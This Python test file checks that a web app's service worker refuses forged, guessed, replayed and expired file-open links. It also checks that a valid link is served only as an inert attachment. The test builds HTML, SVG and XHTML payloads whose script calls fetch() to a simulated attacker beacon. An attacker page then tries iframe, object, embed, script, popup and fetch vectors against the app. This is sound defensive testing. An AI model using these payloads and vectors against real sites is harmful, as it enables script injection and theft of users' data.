"""Item 1: the service worker's streamed open must never serve decrypted bytes as active
content on the app's origin, and must answer only a one-time capability the app minted.

An attacker (CLI identity "mallory") seals HTML and SVG whose script would call the
attacker's server, to the victim (a browser identity, its page booted, its worker in
control). A page on a SECOND origin (served here by the test) then tries every way a page
can reach the open URL: top-level navigation, iframe, window.open, fetch (cors and
no-cors), script, object, embed and img; with the old root+name URL, an id instead of the
name, guessed, replayed and expired tokens, and even a leaked valid token. Nothing may run
(the attacker's server gets no beacon) and no plaintext may reach the attacker."""

import base64
import os
import re
import time

import pytest

from support.attacker_site import AttackerSite
from support.constants import BOOT_TIMEOUT
from support.servers import ServerThread

MARKER = "PLAINTEXT-MARKER-7f3a"


def payloads(beacon: str) -> dict[str, str]:
    """Files whose script, if it ever ran on the app's origin, calls the attacker's server."""
    call = f"fetch('{beacon}?origin='+encodeURIComponent(location.origin),{{mode:'no-cors'}})"
    return {
        "page.html": f"<!doctype html><p>{MARKER}</p><script>{call}</script><img src=x onerror=\"{call}\">",
        "image.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{call}"><script>{call}</script>'
                     f"<text>{MARKER}</text></svg>",
        "doc.xml": f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>{call}</script>'
                   f"<p>{MARKER}</p></html>",
    }


@pytest.fixture(scope="module")
def attacker():
    site = AttackerSite()
    with ServerThread(site) as server:
        server.site = site
        yield server


@pytest.fixture(scope="module")
def victim(browser, app_server, attacker, tmp_path_factory):
    """The victim's context (app booted, worker in control, identity 'bob') and the roots of
    what mallory sealed to bob."""
    import subprocess
    import sys
    context = browser.new_context(base_url=app_server.url, accept_downloads=True)
    page = context.new_page()
    page.goto("/")
    page.wait_for_function("() => document.documentElement.dataset.meshkitReady === 'true'", timeout=BOOT_TIMEOUT)
    page.wait_for_function("() => navigator.serviceWorker.controller !== null", timeout=BOOT_TIMEOUT)
    bob = page.evaluate("async () => (await meshkit.identity.create('bob')).id")
    home = tmp_path_factory.mktemp("mallory")

    def cli(*args):
        return subprocess.run([sys.executable, "-m", "meshkit_web", "--home", str(home), *map(str, args)],
                              capture_output=True, text=True, timeout=120, check=True).stdout
    cli("identity", "create", "mallory")
    cli("identity", "publish", "mallory", "--gateway", app_server.url)
    roots = {}
    for name, text in payloads(attacker.url + "/pwned").items():
        path = home / name
        path.write_text(text)
        roots[name] = cli("seal", path, "--from", "mallory", "--to", bob, "--gateway", app_server.url).split()[-1]
    # the victim really can open them (so a refusal below is the capability check, nothing else)
    assert MARKER in page.evaluate("async (r) => (await (await meshkit.openStream(r, {as: 'bob'})).text())",
                                   roots["page.html"])
    downloads = []
    context.on("page", lambda p: p.on("download", lambda d: downloads.append(d)))
    page.on("download", lambda d: downloads.append(d))
    yield {"context": context, "page": page, "bob": bob, "roots": roots, "downloads": downloads}
    context.close()


VECTORS_JS = """
  const target = new URL(decodeURIComponent(location.hash.slice(1)));
  const results = {};
  const add = (tag, attrs) => { const e = document.createElement(tag); Object.assign(e, attrs); document.body.append(e); return e; };
  add('iframe', {src: target.href, width: 300, height: 200});
  add('object', {data: target.href, width: 300, height: 200});
  add('embed', {src: target.href, width: 300, height: 200});
  add('img', {src: target.href});
  add('script', {src: target.href});
  const popup = window.open(target.href, '_blank');
  results.popup = !!popup;
  fetch(target.href, {mode: 'no-cors'}).then((r) => { results.noCors = r.type; }, (e) => { results.noCors = 'error'; });
  fetch(target.href).then(async (r) => { results.cors = await r.text(); }, (e) => { results.cors = 'error'; });
  window.results = results;
"""


def attack(victim, attacker, path: str) -> list[str]:
    """Every vector from the attacker's origin at once, then a top-level navigation; returns
    what the attacker managed to read."""
    context, app_url = victim["context"], victim["page"].url.split("/", 3)[:3]
    target = "/".join(app_url) + path
    attacker.site.pages["/go"] = f"<!doctype html><meta name=referrer content=no-referrer><body><script>{VECTORS_JS}</script>"
    page = context.new_page()
    before = len(context.pages)
    page.goto(f"{attacker.url}/go#{target}")
    page.wait_for_function("() => window.results && 'cors' in window.results && 'noCors' in window.results",
                           timeout=20_000)
    page.wait_for_timeout(800)
    read = page.evaluate("window.results")
    leaked = [k for k, v in read.items() if isinstance(v, str) and MARKER in v]
    for popup in context.pages[before:]:
        if popup is not page:
            popup.wait_for_load_state()
            leaked += ["popup"] if MARKER in (popup.content() if not popup.is_closed() else "") else []
            popup.close()
    # the classic: the attacker's page navigates the tab (no Referer)
    page.evaluate("(t) => { location.href = t; }", target)
    page.wait_for_timeout(800)
    try:
        if MARKER in page.content():
            leaked.append("top-level")
    except Exception:  # noqa: BLE001 - navigated into a download or an error page
        pass
    page.close()
    return leaked


def random_token() -> str:
    return base64.urlsafe_b64encode(os.urandom(32)).rstrip(b"=").decode()


def mint(victim, root: str, **options) -> str:
    return victim["page"].evaluate("async ([r, o]) => await meshkit.openUrl(r, {as: 'bob', ...o})", [root, options])


def consume(victim, url: str) -> int:
    return victim["page"].evaluate("async (u) => { const r = await fetch(u); await r.arrayBuffer(); return r.status; }", url)


def test_forged_guessed_replayed_and_expired_links_get_nothing_from_any_vector(victim, attacker):
    roots, bob = victim["roots"], victim["bob"]
    html, svg = roots["page.html"], roots["image.svg"]
    replayed = mint(victim, html, type="text/html")
    assert consume(victim, replayed) == 200  # the app's own use
    expired = mint(victim, svg, type="image/svg+xml", ttl=0.2)
    time.sleep(0.5)
    forged = [
        f"/meshkit/open/{html}?as=bob&type=text/html",                  # the old URL: root + local name
        f"/meshkit/open/{html}?as=bob&type=text/html&download=",
        f"/meshkit/open/{svg}?as={bob}&type=image/svg+xml",              # the identity id instead
        f"/meshkit/open/{roots['doc.xml']}?as=bob&type=application/xhtml%2Bxml",
        f"/meshkit/open/{html}/page.html?as=bob",
        f"/meshkit/open/{random_token()}",                               # a guessed token
        f"/meshkit/open/{random_token()}?as=bob&type=text/html",
        replayed, replayed + "?type=text/html",                          # used once already
        expired,                                                         # minted, never used, too old
    ]
    attacker.site.hits.clear()
    downloads = len(victim["downloads"])
    for path in forged:
        assert attack(victim, attacker, path) == [], path
        # and even the app's own page gets a refusal for it
        assert consume(victim, path) == 403, path
    assert not [h for h in attacker.site.hits if h.startswith("/pwned")], "attacker script ran on the app origin"
    assert len(victim["downloads"]) == downloads, "a forged link started a download of plaintext"


@pytest.mark.parametrize("media_type", ["text/html", "image/svg+xml", "application/xhtml+xml", "text/xml",
                                        "application/pdf", "text/html; charset=utf-8", "TEXT/HTML"])
def test_a_leaked_valid_link_is_still_only_an_inert_attachment(victim, attacker, media_type):
    """Suppose the attacker got hold of a fresh link (it is one-time and dies in 60 s, but
    suppose): navigated, framed or opened, it is a download of inert bytes, never a page."""
    name = {"text/html": "page.html", "image/svg+xml": "image.svg"}.get(media_type.split(";")[0].lower(), "doc.xml")
    root = victim["roots"][name]
    attacker.site.hits.clear()
    for _ in range(2):  # once through every vector, once as the top-level navigation alone
        url = mint(victim, root, type=media_type)
        assert re.fullmatch(r"/meshkit/open/[A-Za-z0-9_-]{43}", url), url  # nothing in it but the token
        assert attack(victim, attacker, url) == []
    victim["page"].wait_for_timeout(500)
    assert not [h for h in attacker.site.hits if h.startswith("/pwned")], "attacker script ran on the app origin"
    # what the worker answers for such a link: attachment, octet-stream, sandboxed
    headers = victim["page"].evaluate("""async ([r, t]) => {
      const response = await fetch(await meshkit.openUrl(r, {as: 'bob', type: t}));
      return Object.fromEntries(response.headers.entries()); }""", [root, media_type])
    assert headers["content-type"] == "application/octet-stream"
    assert headers["content-disposition"].startswith("attachment")
    assert headers["content-security-policy"].startswith("sandbox;") and "default-src 'none'" in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff" and headers["cross-origin-resource-policy"] == "same-origin"


def test_only_inert_types_are_kept_and_every_open_is_an_attachment(victim):
    root = victim["roots"]["page.html"]
    got = victim["page"].evaluate("""async (r) => {
      const out = {};
      for (const t of ['text/plain', 'image/png', 'video/mp4', 'TEXT/PLAIN; charset=utf-7', 'image/svg+xml',
                       'application/pdf', 'text/javascript', 'application/json', 'multipart/x-mixed-replace', '']) {
        const response = await fetch(await meshkit.openUrl(r, {as: 'bob', type: t}));
        await response.arrayBuffer();
        out[t] = [response.headers.get('content-type'), response.headers.get('content-disposition')];
      }
      return out; }""", root)
    kept = {"text/plain": "text/plain", "image/png": "image/png", "video/mp4": "video/mp4",
            "TEXT/PLAIN; charset=utf-7": "text/plain"}
    for requested, (served, disposition) in got.items():
        assert served == kept.get(requested, "application/octet-stream"), (requested, served)
        assert disposition.startswith("attachment"), requested


def test_the_link_is_one_time_bound_to_an_identity_id_and_needs_the_app(victim, app_server):
    page, root = victim["page"], victim["roots"]["page.html"]
    # by id or by name: the same identity; a name that is not one of mine mints nothing
    by_id = mint(victim, root, name="x.html")
    assert victim["bob"] not in by_id and "bob" not in by_id and root not in by_id
    assert consume(victim, by_id) == 200 and consume(victim, by_id) == 403
    by_id = page.evaluate("async ([r, id]) => await meshkit.openUrl(r, {as: id})", [root, victim["bob"]])
    assert consume(victim, by_id) == 200
    refused = page.evaluate("""async (r) => { try { await meshkit.openUrl(r, {as: 'nobody'}); return 'minted'; }
                                            catch (e) { return e.code; } }""", root)
    assert refused == "unknown_identity"
    # a refusal is a typed JSON error with the strict policy, never plaintext
    body = page.evaluate("async () => { const r = await fetch('/meshkit/open/' + 'A'.repeat(43)); return [r.status, await r.json()]; }")
    assert body[0] == 403 and body[1]["error"] == "forbidden"
    # without the worker (another context, nothing registered) the gateway has no such route
    other = victim["context"].browser.new_context(base_url=app_server.url)
    response = other.new_page().goto(f"/meshkit/open/{root}?as=bob&type=text/html")
    assert response.status == 404 and MARKER not in response.text()
    other.close()
